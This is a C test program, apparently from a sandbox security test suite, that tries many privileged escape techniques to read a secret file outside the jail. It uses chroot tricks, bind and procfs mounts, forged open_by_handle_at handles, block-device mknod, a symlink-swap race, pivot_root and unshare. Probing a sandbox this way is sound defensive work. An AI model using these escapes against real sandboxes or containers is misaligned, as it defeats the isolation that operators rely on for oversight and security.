/* Privileged escape vectors: chroot, mounts, file handles, device nodes,
 * and a symlink-swap race. The sandboxed app runs as (virtual) root. */
#include "escape.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/sysmacros.h>

static void after_chroot_attempt(const char *name, const char *secret)
{
	int fd = open(secret, O_RDONLY);
	if (fd < 0)
		fd = open("secret.txt", O_RDONLY);
	try_fd(name, fd);
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		printf("usage: escape_chroot SECRET_PATH OUTSIDE_DIR\n");
		return 2;
	}
	const char *secret = argv[1];
	char p[8192];
	mkdir("/tmp", 01777);
	int realroot = open("/", O_RDONLY | O_DIRECTORY);

	/* Classic chroot escape in a child: cwd stays outside the new root. */
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		mkdir("/tmp/jail", 0755);
		if (chroot("/tmp/jail") < 0) {
			attempt_result("chroot cwd escape", "chroot %s", errname(errno));
			_exit(0);
		}
		for (int i = 0; i < 30; i++)
			chdir("..");
		chroot(".");
		after_chroot_attempt("chroot cwd escape", secret);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	attempt_no++;

	/* chroot then fchdir to a saved fd. */
	pid = fork();
	if (pid == 0) {
		mkdir("/tmp/jail2", 0755);
		if (chroot("/tmp/jail2") < 0) {
			attempt_result("chroot fchdir escape", "chroot %s", errname(errno));
			_exit(0);
		}
		chdir("/");
		fchdir(realroot);
		for (int i = 0; i < 30; i++)
			chdir("..");
		chroot(".");
		after_chroot_attempt("chroot fchdir escape", secret);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	attempt_no++;

	/* Nested chroots and openat from a saved fd. */
	pid = fork();
	if (pid == 0) {
		mkdir("/tmp/jail3", 0755);
		mkdir("/tmp/jail3/inner", 0755);
		chroot("/tmp/jail3");
		chroot("/inner");
		try_openat("openat saved fd .. after chroot", realroot, "../secret.txt");
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	attempt_no++;

	/* Bind mounts and fresh proc mounts. */
	mkdir("/tmp/mnt", 0755);
	if (mount("/", "/tmp/mnt", NULL, MS_BIND | MS_REC, NULL) < 0)
		attempt_result("bind mount / then ..", "mount %s", errname(errno));
	else
		try_open("bind mount / then ..", "/tmp/mnt/../secret.txt");
	mkdir("/tmp/mnt2", 0755);
	if (mount("..", "/tmp/mnt2", NULL, MS_BIND, NULL) < 0)
		attempt_result("bind mount ..", "mount %s", errname(errno));
	else
		try_open("bind mount ..", "/tmp/mnt2/secret.txt");
	snprintf(p, sizeof p, "%s", secret);
	*strrchr(p, '/') = 0;
	mkdir("/tmp/mnt3", 0755);
	if (mount(p, "/tmp/mnt3", NULL, MS_BIND, NULL) < 0)
		attempt_result("bind mount host dir", "mount %s", errname(errno));
	else
		try_open("bind mount host dir", "/tmp/mnt3/secret.txt");
	mkdir("/tmp/newproc", 0755);
	if (mount("proc", "/tmp/newproc", "proc", 0, NULL) < 0)
		attempt_result("new procfs 1/root", "mount %s", errname(errno));
	else
		try_open("new procfs 1/root", "/tmp/newproc/1/root/../secret.txt");
	mkdir("/tmp/ext", 0755);
	if (mount("/dev/vda", "/tmp/ext", "ext4", MS_RDONLY, NULL) < 0)
		attempt_result("mount host block device", "mount %s", errname(errno));
	else
		try_open("mount host block device", "/tmp/ext/secret.txt");

	/* open_by_handle_at: forge a handle for the filesystem root (ino 2). */
	struct {
		struct file_handle fh;
		unsigned char data[128];
	} h;
	h.fh.handle_bytes = 128;
	int mnt_id;
	if (name_to_handle_at(AT_FDCWD, "/inside.txt", &h.fh, &mnt_id, 0) < 0) {
		attempt_result("open_by_handle_at forged root", "name_to_handle_at %s", errname(errno));
	} else {
		if (h.fh.handle_bytes >= 8) {
			unsigned int *words = (unsigned int *)h.fh.f_handle;
			words[0] = 2;
			words[1] = 0;
		}
		int fd = open_by_handle_at(realroot, &h.fh, O_RDONLY | O_DIRECTORY);
		if (fd < 0) {
			attempt_result("open_by_handle_at forged root", "%s", errname(errno));
		} else {
			snprintf(p, sizeof p, "%s", secret + 1);
			try_openat("open_by_handle_at forged root", fd, p);
		}
	}

	/* Block device nodes for the root filesystem. */
	struct stat st;
	stat("/", &st);
	unsigned devs[][2] = {{major(st.st_dev), minor(st.st_dev)}, {254, 0}, {253, 0}, {8, 0}, {259, 0}};
	int opened = 0;
	char res[512] = "";
	size_t off = 0;
	for (int i = 0; i < 5; i++) {
		char name[64];
		snprintf(name, sizeof name, "/tmp/blk%d", i);
		unlink(name);
		if (mknod(name, S_IFBLK | 0600, makedev(devs[i][0], devs[i][1])) < 0) {
			sappend(res, sizeof res, &off, "mknod:%s ", errname(errno));
			continue;
		}
		int fd = open(name, O_RDONLY);
		if (fd < 0) {
			sappend(res, sizeof res, &off, "open:%s ", errname(errno));
			continue;
		}
		char buf[4096];
		ssize_t n = read(fd, buf, sizeof buf);
		close(fd);
		if (n > 0) {
			opened++;
			sappend(res, sizeof res, &off, "LEAK-blockdev-readable ");
		} else {
			sappend(res, sizeof res, &off, "read:%s ", n < 0 ? errname(errno) : "eof");
		}
	}
	attempt_result("block device nodes", "%s", res);
	(void)opened;

	/* Symlink-swap race: a child flips /tmp/race between a directory and a
	 * symlink to "/.." while we open through it. */
	mkdir("/tmp/racedir", 0755);
	mkdir("/tmp/racedir/x", 0755);
	symlink("/..", "/tmp/racelink");
	rename("/tmp/racedir", "/tmp/race");
	pid = fork();
	if (pid == 0) {
		for (int i = 0; i < 2000; i++) {
			rename("/tmp/race", "/tmp/racedir");
			rename("/tmp/racelink", "/tmp/race");
			rename("/tmp/race", "/tmp/racelink");
			rename("/tmp/racedir", "/tmp/race");
		}
		_exit(0);
	}
	int tries = 0, oks = 0;
	char seen[1024] = "";
	while (waitpid(pid, NULL, WNOHANG) == 0 && tries < 20000) {
		tries++;
		int fd = open("/tmp/race/../secret.txt", O_RDONLY);
		int fd2 = open("/tmp/race/x/../../../secret.txt", O_RDONLY);
		for (int k = 0; k < 2; k++) {
			int f = k ? fd2 : fd;
			if (f < 0)
				continue;
			oks++;
			const char *d = describe_fd(f);
			if (!strstr(seen, d) && strlen(seen) + strlen(d) + 3 < sizeof seen) {
				strcat(seen, d);
				strcat(seen, "; ");
			}
			close(f);
		}
	}
	waitpid(pid, NULL, 0);
	attempt_result("symlink swap race", "%s", seen);
	printf("  (race tries: %s)\n", tries > 10 ? "many" : "few");
	(void)oks;

	/* pivot_root and unshare(CLONE_NEWNS). */
	mkdir("/tmp/pr", 0755);
	mkdir("/tmp/pr/old", 0755);
	mount("/tmp/pr", "/tmp/pr", NULL, MS_BIND, NULL);
	pid = fork();
	if (pid == 0) {
		if (syscall(SYS_pivot_root, "/tmp/pr", "/tmp/pr/old") < 0) {
			attempt_result("pivot_root then old/..", "%s", errname(errno));
			_exit(0);
		}
		try_open("pivot_root then old/..", "/old/../secret.txt");
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	attempt_no++;
	pid = fork();
	if (pid == 0) {
		if (unshare(CLONE_NEWNS | CLONE_NEWUSER) < 0) {
			attempt_result("unshare mount+user ns", "%s", errname(errno));
			_exit(0);
		}
		try_open("unshare mount+user ns", "/../secret.txt");
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	attempt_no++;
	finish();
	return 0;
}
